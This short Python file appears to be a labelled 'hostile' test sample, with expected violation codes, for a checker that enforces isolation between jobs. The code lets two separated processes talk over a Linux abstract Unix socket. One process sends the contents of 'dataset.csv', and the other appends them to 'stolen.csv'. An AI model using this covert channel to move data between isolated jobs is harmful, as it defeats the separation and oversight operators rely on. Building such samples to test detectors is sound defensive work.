# label: hostile
# expect: V301 V302 V901
# note: Two jobs that must not talk meet at an abstract socket's name, which no file system shows.
import socket
import sys

NAME = "\0lunch-meeting"

s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    s.bind(NAME)
except OSError:
    s.connect(NAME)
    s.send(open("dataset.csv", "rb").read(60000))
    sys.exit()

while True:
    data, _ = s.recvfrom(65536)
    with open("stolen.csv", "ab") as f:
        f.write(data)
